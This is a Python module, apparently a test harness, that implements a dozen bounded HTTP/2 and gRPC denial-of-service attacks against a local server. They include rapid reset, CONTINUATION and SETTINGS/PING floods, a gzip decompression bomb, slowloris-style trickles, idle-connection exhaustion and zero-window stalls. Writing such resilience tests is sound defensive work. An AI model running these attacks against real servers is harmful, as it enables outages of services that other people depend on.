"""What strangers may send to wear a server out.  Each attack is bounded in what it sends and in time, comes from an address
of its own, goes on for as long as more() says, and tells what came of it."""
import time
import zlib

from frames import (ACK, CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING, RST_STREAM,
                    SETTINGS, Peer, call, frame, message, text)

SOURCE = "127.0.0.2"
LONGEST_S = 90
CONNECTIONS_MAX = 2000
SLOW_S = 8  # longer than the edge waits for a handshake
IDLE = 1300  # more than the edge of test_hostile.py has room for


class Attack:
    """One attacker: where to, with what, and what it has done so far."""

    def __init__(self, address, ca, more=lambda: False, token="", order_id=""):
        self.address, self.ca, self.more, self.token, self.order_id = address, ca, more, token, order_id
        self.sent, self.connections, self.ended, self.refused, self.amount = 0, 0, 0, 0, 0
        self.until = time.monotonic() + LONGEST_S

    def goes_on(self, amount):
        self.amount = amount
        return time.monotonic() < self.until and self.connections < CONNECTIONS_MAX and (self.sent < amount or self.more())

    def peer(self, **more):
        """None: it was not let in."""
        self.connections += 1
        try:
            return Peer(self.address, self.ca, SOURCE, **more)
        except OSError:
            self.refused += 1
            return None

    def head(self):
        return call(more=[("authorization", "Bearer " + self.token)] if self.token else [])

    def repeat(self, amount, burst, units, reads=True):
        """burst(n) are the bytes of its n-th burst of `units` on a connection; a connection that was ended is begun again."""
        while self.goes_on(amount):
            peer, n = self.peer(), 0
            while peer and self.goes_on(amount) and n < 1000 and peer.send(burst(n)) and (not reads or peer.drain()):
                self.sent += units
                n += 1
            if peer:
                self.ended += peer.gone
                peer.close()


def rapid_reset(a):
    head, cancel = a.head(), b"\0\0\0\x08"

    def burst(n):
        return b"".join(frame(HEADERS, END_HEADERS, s, head) + frame(RST_STREAM, 0, s, cancel)
                        for s in range(n * 200 + 1, n * 200 + 201, 2))
    a.repeat(20000, burst, 100)


def continuation_flood(a):
    # Each frame is full of fields that count for little on the wire, and none is the last.
    pile = (b"\x10" + text("x-a") + text("b")) * 2000

    def burst(n):
        first = frame(HEADERS, 0, 1, a.head()) if n == 0 else b""
        return first + frame(CONTINUATION, 0, 1, pile) * 10
    a.repeat(20000, burst, 10)


def large_headers(a):
    many = call(more=[("x-%d" % n, "y" * 4000) for n in range(6)])

    def burst(n):
        block = frame(HEADERS, 0, 2 * n + 1, many[:16000]) + frame(CONTINUATION, END_HEADERS, 2 * n + 1, many[16000:])
        return block
    a.repeat(5000, burst, 1)


def settings_flood(a):
    # What is asked to be acknowledged is never read.
    a.repeat(200000, lambda n: frame(SETTINGS, payload=b"\0\x03\0\0\0\x64") * 500, 500, reads=False)


def settings_never_acknowledged(a):
    a.repeat(300000, lambda n: frame(SETTINGS) * 1000, 1000)


def ping_flood(a):
    a.repeat(200000, lambda n: frame(PING, payload=b"12345678") * 500, 500, reads=False)


def gzip_bomb(a):
    z = zlib.compressobj(9, wbits=31)
    bomb = z.compress(bytes(48 << 20)) + z.flush()  # less than a window of 64 KiB on the wire
    head = call(more=[("grpc-encoding", "gzip")] + ([("authorization", "Bearer " + a.token)] if a.token else []))
    body = message(bomb, compressed=True)
    assert len(body) < 65535, len(body)

    def burst(n):
        parts = [body[at:at + 16384] for at in range(0, len(body), 16384)]
        return frame(HEADERS, END_HEADERS, 1, head) + b"".join(
            frame(DATA, END_STREAM if n == len(parts) - 1 else 0, 1, part) for n, part in enumerate(parts))
    while a.goes_on(60):
        peer = a.peer()
        if peer and peer.send(burst(0)):
            a.sent += 1
            got = peer.frames(lambda f: f[0] in (HEADERS, RST_STREAM) and f[2] == 1, 10)
            a.ended += not got
        if peer:
            peer.close()


def trickle(a, first, rest, amount, seconds):
    """`amount` connections that have sent `first` and send a byte of `rest` now and then."""
    peers = []
    while len(peers) < amount and a.connections < amount and a.goes_on(amount):
        peer = a.peer(hello=first is not None)
        if peer:
            peer.send(first or b"")
            peers.append(peer)
            a.sent += 1
    end, at = time.monotonic() + seconds, 0
    try:
        while time.monotonic() < end or (a.more() and time.monotonic() < a.until):
            for peer in peers:
                if not peer.gone:
                    peer.send(rest[at % len(rest):][:1])
                    peer.drain()
            at += 1
            time.sleep(0.2)  # the attack's own pace
        a.ended += sum(peer.gone for peer in peers)
    finally:
        for peer in peers:
            peer.close()


def slow_handshake(a):
    hello = b"\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03" + bytes(505)
    trickle(a, None, hello, 100, SLOW_S)


def slow_headers(a):
    head = a.head()
    trickle(a, b"", frame(HEADERS, END_HEADERS, 1, head), 100, SLOW_S)


def slow_body(a):
    trickle(a, frame(HEADERS, END_HEADERS, 1, a.head()), frame(DATA, 0, 1, message(b"\x0a\x24" + b"0" * 36)), 100, SLOW_S)


def idle_connections(a):
    peers = []
    try:
        while len(peers) < IDLE and a.connections < IDLE and a.goes_on(IDLE):
            peer = a.peer()
            if peer:
                peers.append(peer)
                a.sent += 1
        while a.more() and time.monotonic() < a.until:
            for peer in peers:
                peer.drain()
            time.sleep(0.05)  # it just sits there
        for peer in peers:
            peer.drain()
        a.ended += sum(peer.gone for peer in peers)
    finally:
        for peer in peers:
            peer.close()


def zero_window(a):
    """Answers are asked for and never taken: the window is nothing, and what comes is not read."""
    nothing = INITIAL_WINDOW_SIZE.to_bytes(2, "big") + b"\0\0\0\0"
    request = message(b"\x0a\x24" + a.order_id.encode())
    peers = []
    try:
        while len(peers) < 40 and a.connections < 40 and a.goes_on(40 * 60):
            peer = a.peer(settings=nothing)
            if not peer:
                continue
            peers.append(peer)
            for stream in range(1, 121, 2):
                peer.send(frame(HEADERS, END_HEADERS, stream, a.head()) + frame(DATA, END_STREAM, stream, request))
                a.sent += 1
        while a.more() and time.monotonic() < a.until:
            for peer in peers:
                peer.drain()
            time.sleep(0.05)
        a.ended += sum(peer.gone for peer in peers)
    finally:
        for peer in peers:
            peer.close()


ALL = (rapid_reset, continuation_flood, large_headers, settings_flood, settings_never_acknowledged, ping_flood, gzip_bomb,
       slow_handshake, slow_headers, slow_body, idle_connections, zero_window)
